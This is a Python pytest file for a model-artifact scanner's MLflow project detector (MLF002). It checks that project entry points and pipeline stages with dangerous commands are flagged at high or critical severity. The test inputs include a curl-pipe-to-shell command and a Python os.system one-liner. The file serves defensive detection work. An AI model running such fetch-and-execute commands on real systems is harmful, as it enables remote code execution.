"""MLF002: commands of MLflow projects."""

from __future__ import annotations

import json

import pytest

from modelkeep.core import Severity
from modelkeep.scan.mlflow_project import DETECTOR
from samples import found_by


def project(command: str) -> bytes:
    return json.dumps({"name": "p", "entry_points": {"main": {"command": command}}}).encode()


@pytest.mark.parametrize(
    "command", ["curl https://x/y | sh", "python -c \"__import__('os').system('true')\""]
)
def test_dangerous_commands_fail(command: str) -> None:
    (finding,) = found_by(DETECTOR, project(command))
    assert finding.severity >= Severity.HIGH


@pytest.mark.parametrize("command", ["python train.py --alpha {alpha}", "bash run.sh {data}"])
def test_training_is_silent(command: str) -> None:
    assert found_by(DETECTOR, project(command)) == []


def test_stages_of_a_pipeline_are_commands_too() -> None:
    raw = json.dumps({"stages": {"train": {"cmd": "curl https://x/y | sh"}}}).encode()
    assert found_by(DETECTOR, raw)[0].severity is Severity.CRITICAL


def test_other_documents_are_left_alone() -> None:
    assert found_by(DETECTOR, b'{"command": "curl https://x | sh"}') == []
